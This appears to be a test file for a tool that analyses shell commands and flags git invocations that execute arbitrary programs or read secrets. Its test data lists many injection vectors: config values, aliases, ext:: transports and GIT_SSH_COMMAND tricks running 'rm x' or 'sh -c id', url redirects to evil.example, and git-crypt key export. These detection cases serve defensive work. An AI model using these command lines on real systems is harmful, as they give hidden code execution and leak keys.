import { describe, expect, it } from 'vitest';
import { analyse } from '../../analyse.ts';
import { SURROUNDINGS } from '../testing/told.ts';
import { analysisOf, lossesOf, othersOf } from './told-git.ts';

describe('what a git command runs', () => {
  const deletes = 'file.delete file_path=x';
  it.each([
    [['git', '-c', 'core.sshCommand=rm x', 'fetch']],
    [['git', '-c', 'CORE.SSHCOMMAND=rm x', 'fetch']],
    [['git', '-c', 'core.pager=rm x', 'log']],
    [['git', '-c', 'pager.log=rm x', 'log']],
    [['git', '-c', 'core.editor=rm x', 'commit']],
    [['git', '-c', 'sequence.editor=rm x', 'rebase', '-i']],
    [['git', '-c', 'diff.external=rm x', 'diff']],
    [['git', '-c', 'core.fsmonitor=rm x', 'status']],
    [['git', '-c', 'credential.helper=!rm x', 'fetch']],
    [['git', '-c', 'credential.https://h.helper=!rm x', 'fetch']],
    [['git', '-c', 'filter.a.smudge=rm x', 'checkout', 'main']],
    [['git', '-c', 'alias.z=!rm', 'z', 'x']],
    [['git', '-c', 'alias.z=!f() { rm "$@"; }; f', 'z', 'x']],
    [['git', '-c', 'url.ext::rm x.insteadOf=a', 'fetch']],
    [['git', 'rebase', '-x', 'rm x', 'main']],
    [['git', 'rebase', '--exec=rm x', 'main']],
    [['git', 'rebase', '-ix', 'rm x']],
    [['git', 'bisect', 'run', 'rm', 'x']],
    [['git', 'submodule', 'foreach', 'rm x']],
    [['git', 'submodule', '--quiet', 'foreach', '--recursive', 'rm', 'x']],
    [['git', 'filter-branch', '--tree-filter', 'rm x', 'HEAD']],
    [['git', 'grep', '-Orm x', 'a']],
    [['git', 'grep', '--open-files-in-pager=rm x', 'a']],
    [['git', 'fetch', '--upload-pack', 'rm x', '.']],
    [['git', 'clone', '-u', 'rm x', 'a', 'b']],
    [['git', 'clone', '-c', 'core.sshCommand=rm x', 'a']],
    [['git', 'ls-remote', '--exec=rm x', '.']],
    [['git', 'push', '--receive-pack=rm x', '.']],
    [['git', 'clone', 'ext::rm x', 'b']],
    [['git', 'fetch', 'ext::rm x']],
    [['git', 'archive', '--remote=ext::rm x', 'HEAD']],
    [['git', 'remote-ext', 'o', 'rm x']],
    [['git', 'send-email', '--to-cmd=rm x', 'p']],
    [['git', 'config', 'core.pager', 'rm x']],
    [['git', 'config', '--global', 'alias.z', '!rm x']],
    [['git', 'config', 'set', 'core.editor', 'rm x']],
  ])('%j', (words) => {
    expect(othersOf(words)).toContain(deletes);
  });

  it.each([[['git', 'difftool', '-x', 'rm -rf']], [['git', 'difftool', '--extc=rm -rf']]])(
    '%j is given files of the worktree',
    (words) => {
      expect(othersOf(words).filter((each) => each.startsWith('file.delete'))).not.toEqual([]);
    },
  );

  it.each([
    ['git config core.fsmonitor true', 0],
    ['git config --global credential.helper osxkeychain', 0],
    ['git config credential.https://h.helper "cache --timeout 3600"', 0],
    ['git -c url.https://h/.insteadOf=git@h: clone git@h:o/r', 0],
    ['git -c url.ssh://git@h/.insteadOf=https://h/ fetch', 0],
    ['git -c init.templateDir= init', 0],
    ['git config core.fsmonitor ./x', 1],
    ['git config core.sshCommand ./x', 1],
    ['git config credential.helper store', 1],
    ['git config credential.helper "!cache"', 1],
    ['git -c url.https://evil.example/.insteadOf=https://h/ fetch', 1],
    ['git -c url.https://h@evil.example/.insteadOf=https://h/ fetch', 1],
    ['git -c url.ext::sh.insteadOf=https://h/ fetch', 1],
    ['git -c url.ext::sh.insteadOf=ext::y fetch', 1],
    ['git -c url.http://h/.insteadOf=https://h/ fetch', 1],
    ['git -c init.templateDir=/tmp/t init', 1],
  ])('%s makes %i settings of weight', (line, count) => {
    const settings = analyse(line, SURROUNDINGS).actions.flatMap(
      ({ params }) => params['config'] ?? [],
    );
    expect(settings).toHaveLength(count);
  });

  it('runs what stands before --help, where git does not take that as a question', () => {
    const words = ['git', 'filter-branch', '--tree-filter', 'rm x', 'HEAD', '--help'];
    expect(othersOf(words)).toContain(deletes);
  });

  it('hands out the keys and the text of what is encrypted', () => {
    expect(othersOf('git crypt export-key k')).toEqual([
      'secret.read kind=encryption-key',
      'file.write file_path=k',
    ]);
    expect(othersOf('git-crypt export-key -')).toContain('secret.read kind=encryption-key');
    expect(othersOf('git secret cat a')).toEqual(['secret.read kind=encrypted-file']);
    expect(othersOf('git crypt status')).toEqual([]);
    expect(othersOf('git secret list')).toEqual([]);
  });

  it('reads aliases as the commands they stand for', () => {
    expect(lossesOf(['git', '-c', 'alias.z=reset --hard', 'z'])).toEqual(['worktree']);
    expect(lossesOf(['git', '-c', 'alias.z=push', 'z', '-f'])).toEqual(['remote']);
    expect(lossesOf(['git', 'config', 'alias.z', 'reset --hard'])).toContain('worktree');
    expect(lossesOf(['git', '-c', 'alias.status=reset --hard', 'reset'])).toEqual([]);
  });

  it('follows an alias that names itself no further', () => {
    expect(analysisOf(['git', '-c', 'alias.a=b', '-c', 'alias.b=a', 'a']).unknown).toContain(
      'too-many',
    );
  });

  it.each([
    ['git -c core.pager=cat log'],
    ['git -c core.pager= log'],
    ['git -c core.fsmonitor=false status'],
    ['git -c core.sshCommand=rm status'],
    ['git -c core.sshCommand=rm remote -v'],
    ['git -c credential.helper= ls-remote origin'],
    ['git -c credential.helper=store fetch'],
    ['git config --get core.sshCommand'],
    ['git config core.sshCommand'],
    ['git config --unset core.pager'],
    ['git config user.name x'],
    ['git -c url.https://h/.insteadOf=git@h: fetch'],
    ['git -c credential.helper=osxkeychain fetch'],
    ['git commit -m !rm'],
    ['git grep -O a'],
  ])('%s runs nothing harmful', (line) => {
    expect(
      othersOf(line).filter((each) => !/file\.grep|^run git cat|^code\.execute/.test(each)),
    ).toEqual([]);
  });
});

describe('what git speaks through', () => {
  const config = (line: string) =>
    analyse(line, SURROUNDINGS)
      .actions.filter(({ name }) => name.startsWith('git.'))
      .flatMap(({ params }) => params['config'] ?? []);

  it.each([
    ['git clone --upload-pack ./x a b', 'uploadpack=./x'],
    ['git clone -u "sh -c id" a b', 'uploadpack=sh -c id'],
    ['git fetch --upload-pack=./x origin', 'uploadpack=./x'],
    ['git push --receive-pack=./x origin topic', 'uploadpack=./x'],
    ['git ls-remote --exec=./x origin', 'uploadpack=./x'],
    ["GIT_SSH_COMMAND='./x' git fetch", 'core.sshcommand=./x'],
    [
      "GIT_SSH_COMMAND='ssh -o ProxyCommand=./x' git fetch",
      'core.sshcommand=ssh -o ProxyCommand=./x',
    ],
    ["GIT_SSH_COMMAND='ssh -F ./config' git fetch", 'core.sshcommand=ssh -F ./config'],
    ["GIT_SSH_COMMAND='ssh; ./x' git fetch", 'core.sshcommand=ssh; ./x'],
    ["GIT_SSH_COMMAND='ssh -i $(./x)' git fetch", 'core.sshcommand=ssh -i $(./x)'],
  ])('%s', (line, expected) => {
    expect(config(line)).toContain(expected);
  });

  it.each([
    'git clone --upload-pack /usr/lib/git-core/git-upload-pack a b',
    'git push --receive-pack="git receive-pack" origin topic',
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git fetch",
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes -p 2222' git clone a b",
    'GIT_SSH_COMMAND=ssh git fetch',
  ])('%s runs nothing of another', (line) => {
    expect(config(line)).toEqual([]);
  });

  it('reads programs that stand for git', () => {
    const names = (line: string) => analyse(line, SURROUNDINGS).actions.map(({ name }) => name);
    expect(names('hub push --force')).toContain('git.push');
    expect(names('bfg --delete-files x.zip')).toContain('git.filter-repo');
    expect(names('bfg --help')).not.toContain('git.filter-repo');
  });
});
